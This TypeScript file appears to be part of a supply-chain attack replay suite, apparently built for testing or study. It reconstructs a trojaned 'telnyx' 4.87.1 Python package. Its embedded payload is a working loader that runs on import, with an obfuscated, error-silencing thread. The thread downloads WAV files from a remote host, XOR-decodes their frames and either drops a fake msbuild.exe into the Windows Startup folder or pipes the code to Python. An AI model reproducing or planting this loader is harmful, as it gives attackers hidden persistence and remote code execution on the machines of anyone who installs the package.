import { beforeAttack, type Draft, type Remote, type Replay, siteIn } from './incident.ts';
import { sdkLibrary } from './libraries/sdk.ts';
import { audioTools } from './look-alikes/media.ts';
import { py } from './python-text.ts';

const CODE = (c: Remote): string => py`
import base64 as _b64
import subprocess as _sp
import sys as _sys
import tempfile as _tmp
import threading as _thr
import urllib.request as _req
import wave as _wave


def _frames(url):
    path = _tmp.mktemp(suffix=".wav")
    _req.urlretrieve(url, path)
    with _wave.open(path, "rb") as sound:
        raw = _b64.b64decode(sound.readframes(sound.getnframes()))
    key, body = raw[:8], raw[8:]
    return bytes(byte ^ key[index % len(key)] for index, byte in enumerate(body))


def _setup():
    try:
        if _sys.platform == "win32":
            import os

            target = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs", "Startup", "msbuild.exe")
            if not os.path.exists(target):
                with open(target, "wb") as stream:
                    stream.write(_frames("${c.url('/hangup.wav')}"))
                _sp.Popen([target], creationflags=0x08000000)
        else:
            stage = _frames("${c.url('/ringtone.wav')}")
            child = _sp.Popen([_sys.executable, "-"], stdin=_sp.PIPE, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
            child.communicate(stage)
    except Exception:
        pass


_thr.Thread(target=_setup, daemon=True).start()

`;

function malicious(c: Remote): Draft {
  const files = sdkLibrary({
    package: 'telnyx',
    vendor: 'Telnyx',
    base: 'https://api.telnyx.example',
    resources: ['calls', 'messages', 'numbers', 'faxes', 'porting_orders'],
    version: '4.87.1',
    modelLines: 900,
  });
  return {
    kind: 'wheel',
    name: 'telnyx',
    version: '4.87.1',
    files,
    sites: [siteIn(files, 'telnyx/_client.py', CODE(c), 'DEFAULT_BASE_URL')],
  };
}

export const TELNYX: Replay = {
  id: '16-telnyx',
  title: 'telnyx 4.87.1: the next stage travels in the frames of a WAV file',
  source: 'https://github.com/pypa/advisory-database/pull/271',
  runs: 'import downloads a sound, decodes and un-masks its frames and runs them: as a program in the Startup folder or as Python on stdin',
  remote: 'http://198.51.100.203:8080',
  draft: malicious,
  predecessor: () => beforeAttack(malicious, '4.87.0'),
  lookAlikes: () => [audioTools()],
};
